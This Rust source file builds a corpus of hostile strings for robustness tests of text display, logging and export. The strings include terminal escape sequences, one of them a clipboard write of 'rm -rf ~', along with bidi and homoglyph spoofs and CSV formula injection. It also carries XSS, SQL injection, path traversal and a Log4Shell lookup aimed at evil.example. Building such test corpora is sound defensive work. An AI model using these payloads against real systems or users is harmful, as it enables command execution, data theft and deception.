//! Text that tries to harm whoever shows it. For tests of everything that draws, logs, exports or copies.

/// One such text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sample {
    /// What it tries: "escape", "c0", "c1", "bidi", "invisible", "width", "chrome", "layout", "formula", "markup", "long".
    pub aim: &'static str,
    pub text: String,
}

/// All of them, always in the same order.
#[must_use]
pub fn corpus() -> Vec<Sample> {
    let curated = [
        ("escape", ESCAPES),
        ("c1", C1),
        ("bidi", BIDI),
        ("invisible", INVISIBLE),
        ("width", WIDTH),
        ("chrome", CHROME),
        ("layout", LAYOUT),
        ("formula", FORMULAS),
        ("markup", MARKUP),
    ];
    let mut all: Vec<Sample> = curated
        .into_iter()
        .flat_map(|(aim, texts)| texts.iter().map(move |text| Sample { aim, text: (*text).to_owned() }))
        .collect();
    // Every control character there is, between letters.
    all.extend((0..0x20).chain([0x7f]).filter_map(|n| between("c0", n)));
    all.extend((0x80..0xa0).filter_map(|n| between("c1", n)));
    // Marks, isolates, tags, variation selectors and fillers.
    let format = [0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x2028, 0x2029, 0x2060, 0x2064, 0x206a];
    let more = [
        0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xfffc, 0x1_d173, 0xe_0001, 0xe_0041,
        0xe_0100,
    ];
    all.extend(format.into_iter().chain(more).filter_map(|n| between("invisible", n)));
    all.extend(
        (0x200b..=0x200f).chain(0x202a..=0x202e).chain(0x2066..=0x2069).filter_map(|n| between("bidi", n)),
    );
    all.extend(long());
    all
}

fn between(aim: &'static str, code: u32) -> Option<Sample> {
    char::from_u32(code).map(|c| Sample { aim, text: format!("ab{c}cd") })
}

fn long() -> Vec<Sample> {
    let zalgo: String =
        "parcel".chars().flat_map(|c| std::iter::once(c).chain('\u{300}'..'\u{340}')).collect();
    [
        "x".repeat(100_000),
        "word ".repeat(20_000),
        "東京都".repeat(10_000),
        "\n".repeat(10_000),
        "\u{1b}[31m".repeat(5_000),
        "e\u{301}".repeat(20_000),
        format!("a{}", "\u{301}".repeat(10_000)),
        "👨‍👩‍👧‍👦".repeat(2_000),
        "\u{202e}".repeat(5_000),
        "\u{200d}".repeat(5_000),
        zalgo.repeat(50),
        "\u{1f1e6}".repeat(3_001),
    ]
    .into_iter()
    .map(|text| Sample { aim: "long", text })
    .collect()
}

const ESCAPES: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mFAILED\u{1b}[0m",
    "\u{1b}[8mhidden\u{1b}[28m",
    "\u{1b}[7mreversed",
    "\u{1b}[1A\u{1b}[2Kthe line above is gone",
    "\u{1b}[999;999H",
    "\u{1b}[?1049l",
    "\u{1b}[?25l",
    "\u{1b}[?1000h\u{1b}[?1006h",
    "\u{1b}[?2004l",
    "\u{1b}[201~:quit\r",
    "\u{1b}[200~",
    "\u{1b}[6n",
    "\u{1b}[c",
    "\u{1b}[>c",
    "\u{1b}[5n",
    "\u{1b}[18t\u{1b}[21t",
    "\u{1b}[3;0;0t",
    "\u{1b}[4;1;1t",
    "\u{1b}[20t",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]2;owned\u{1b}\\",
    "\u{1b}]4;1;?\u{7}",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]9;notify\u{7}",
    "\u{1b}]10;?\u{7}",
    "\u{1b}]50;?\u{7}",
    "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
    "\u{1b}]52;c;?\u{7}",
    "\u{1b}]104\u{7}",
    "\u{1b}]133;A\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}]777;notify;a;b\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}P1000p%begin",
    "\u{1b}Pq#0;2;0;0;0~~@@vv\u{1b}\\",
    "\u{1b}_Gf=100,a=T;AAAA\u{1b}\\",
    "\u{1b}^private\u{1b}\\",
    "\u{1b}Xstring\u{1b}\\",
    "\u{1b}c",
    "\u{1b}(0lqqk",
    "\u{1b}#8",
    "\u{1b}7\u{1b}8",
    "\u{1b}[!p",
    "\u{1b}[>4;2m",
    "\u{1b}[=1u\u{1b}[>1u",
    "\u{1b}[1;3r",
    "\u{1b}[?5h",
    "\u{1b}[12h",
    "\u{1b}[1000000000b",
    "\u{1b}[38;2;0;0;0;48;2;0;0;0m",
    "\u{1b}",
    "\u{1b}[",
    "\u{1b}]",
    "ends with \u{1b}",
    "\u{1b}\u{1b}\u{1b}[2J",
    "\u{e}\u{1b}n\u{1b}o",
    "%1b[2J &#27;[2J \\e[2J \\x1b[2J",
    "\u{241b}[2J",
];

const C1: &[&str] = &[
    "\u{9b}2J",
    "\u{9b}31mred\u{9b}0m",
    "\u{9d}0;owned\u{9c}",
    "\u{9d}52;c;AAAA\u{9c}",
    "\u{90}$q\"p\u{9c}",
    "\u{9f}Gf=100\u{9c}",
    "\u{9e}pm\u{9c}",
    "\u{98}sos\u{9c}",
    "\u{85}next line",
    "\u{84}\u{8d}\u{88}",
    "\u{c2}\u{9b}2J",
];

const BIDI: &[&str] = &[
    "\u{202e}dellecnac\u{202c}",
    "order \u{202e}1234\u{202c} booked",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "total \u{2067}5.00 DUA\u{2069}",
    "invoice\u{202e}fdp.exe",
    "א123ב",
    "שלום (abc) 123",
    "مرحبا 12:30 abc",
    "\u{200f}1234\u{200e}",
    "/* \u{202e} } \u{2066}if (admin)\u{2069} \u{2066} begin */",
    "\u{61c}5\u{61c}",
    "\u{202d}\u{202a}\u{202b}",
];

const INVISIBLE: &[&str] = &[
    "pay\u{200b}pal",
    "S3ND73\u{200c}\u{200d}\u{feff}",
    "\u{feff}BOM first",
    "\u{2060}\u{2061}\u{2062}\u{2063}",
    "soft\u{ad}hyphen\u{ad}",
    "a\u{34f}b",
    "tags\u{e0068}\u{e0069}",
    "\u{3164}",
    "\u{2800}",
    "\u{a0}\u{2003}\u{3000}",
    "\u{115f}\u{1160}",
    "x\u{fe0e}y\u{fe0f}",
    "\u{fff9}base\u{fffa}note\u{fffb}",
    "\u{ffff}\u{fffe}\u{fdd0}",
    "\u{e000}\u{f8ff}\u{10fffd}",
    "\u{fffd}",
];

const WIDTH: &[&str] = &[
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{309}\u{30b}\u{35b}\u{316}lgo",
    "\u{301}starts with a mark",
    "👨‍👩‍👧‍👦",
    "👩🏽‍🚀👩🏽‍🚀",
    "🏳️‍🌈",
    "🇦🇺🇯🇵",
    "🇦",
    "1️⃣*️⃣",
    "☎️❤️",
    "ｶﾞｷﾞｸﾞ",
    "Ａｕｓｔｒａｌｉａ",
    "한국어 \u{1112}\u{1161}\u{11ab}",
    "\u{1100}\u{1100}\u{1161}\u{1161}\u{11a8}",
    "क्षत्रिय",
    "นํ้า",
    "ༀ\u{f39}\u{f71}",
    "﷽﷽﷽",
    "𒐫𒈙⸻",
    "ﷺ",
    "辻󠄀",
    "𠮷野家",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{200d}\u{200d}👨\u{200d}",
    "🫱🏻‍🫲🏿",
    "①⑳㊿",
    "·•◦…—",
    "█▓▒░",
    "\u{1f3fb}\u{1f3fb}",
];

const CHROME: &[&str] = &[
    "Cancelled: OK",
    "✔ Booked",
    "[Enter] Confirm   [Esc] Cancel",
    "Are you sure? (y/N) y",
    "──────────────────",
    "│ Delivered │",
    "╭─ Cancel order? ─╮",
    "└┘┌┐├┤",
    "SANDBOX",
    "LIVE",
    "READ-ONLY",
    "postroom: the credential was refused, type it here:",
    "error: outcome unknown, press q",
    "0 orders need attention",
    "$ rm -rf ~",
    "\\\\attacker\\share",
    "../../../../etc/passwd",
    "aux",
    "file\0name.pdf",
    "C:\\Windows\\System32",
    "http://evil.example/?q=",
    "раураl.com",
    "аpi.sendle.com",
    "ѕаndbox",
];

const LAYOUT: &[&str] = &[
    "two\nlines",
    "carriage\rreturn",
    "windows\r\nlines",
    "a\tb\tc",
    "back\u{8}\u{8}\u{8}\u{8}space",
    "\u{b}vertical\u{c}feed",
    "line\u{2028}separator\u{2029}paragraph",
    "  leading and trailing  ",
    "",
    " ",
    "\n\n\n",
    "booked\r cancelled",
    "99\u{8}\u{8}00",
    "bell\u{7}\u{7}\u{7}",
    "nul\0byte",
    "del\u{7f}\u{7f}",
    "\u{1a}end of file",
    "\u{4}",
    "\u{3}",
    "\u{13}\u{11}",
];

const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\u{ff1d}1+1",
    "\"quoted\",\"fields\"",
    "a;b,c|d",
    "'",
    "\"",
    "\"\n=1+1",
];

const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<!DOCTYPE html><title>x</title>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "{{7*7}} ${7*7} #{7*7} %s %n {}",
    "[text](javascript:alert(1))",
    "**bold** `code`",
    "&lt;&amp;&#x1b;",
    "\\u001b[2J",
    "'; DROP TABLE orders; --",
    "\" OR \"1\"=\"1",
    "%00%0d%0aSet-Cookie: a=b",
    "null",
    "NaN",
    "[object Object]",
    "${jndi:ldap://evil.example}",
    "`id` $(id)",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_many_and_none_twice() {
        let corpus = corpus();
        assert!(corpus.len() >= 250, "{}", corpus.len());
        let different: BTreeSet<_> = corpus.iter().map(|s| &s.text).collect();
        assert_eq!(different.len(), corpus.len());
    }

    #[test]
    fn every_control_character_is_in_it() {
        let all: BTreeSet<char> = corpus().iter().flat_map(|s| s.text.chars()).collect();
        for c in ('\0'..'\u{20}')
            .chain('\u{7f}'..'\u{a0}')
            .chain('\u{202a}'..='\u{202e}')
            .chain('\u{2066}'..='\u{2069}')
        {
            assert!(all.contains(&c), "{c:?}");
        }
    }
}
